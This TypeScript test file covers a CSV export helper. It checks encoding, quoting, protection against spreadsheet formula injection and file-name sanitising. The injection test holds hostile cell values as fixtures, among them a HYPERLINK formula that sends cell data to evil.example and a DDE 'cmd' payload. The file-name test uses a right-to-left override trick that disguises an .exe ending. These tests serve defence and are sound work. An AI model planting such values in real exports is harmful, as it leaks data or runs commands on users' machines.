import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { csvName, csvOf } from './csv.ts';

describe('A table for a spreadsheet', () => {
  it('says that it is UTF-8, ends lines as spreadsheets do, and keeps each value in its cell', () => {
    const rows = [
      ['姓名', '确认'],
      ['欧阳，明"远"', '第一行\n第二行, 还有'],
    ];
    assert.equal(csvOf(rows), '\u{FEFF}"姓名","确认"\r\n"欧阳，明""远""","第一行\n第二行, 还有"\r\n');
  });

  it('runs nothing that a name holds', () => {
    const hostile = [
      '=HYPERLINK("https://evil.example/?"&A1,"点击")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '\n=1',
      '＝1＋1',
      '＠SUM(A1)',
    ];
    for (const name of hostile) {
      assert.equal(csvOf([[name]]), `\u{FEFF}"'${name.replaceAll('"', '""')}"\r\n`, JSON.stringify(name));
    }
  });

  it('leaves other names as they are', () => {
    for (const name of ['李雷', "O'Neil", '阿卜杜拉·买买提', '', ' 张三', '三-四', 'a=b'])
      assert.equal(csvOf([[name]]), `\u{FEFF}"${name}"\r\n`);
  });

  it('has a name that every system takes and that shows its ending', () => {
    assert.equal(csvName('关于“学习”的通知：第 1 版'), '关于“学习”的通知：第 1 版.csv');
    assert.equal(csvName('a/b\\c:d*e?"f"<g>|h\u202Egpj.exe\n'), 'a b c d e f g h gpj.exe.csv');
    assert.equal(csvName('长'.repeat(200)), `${'长'.repeat(60)}.csv`);
  });
});
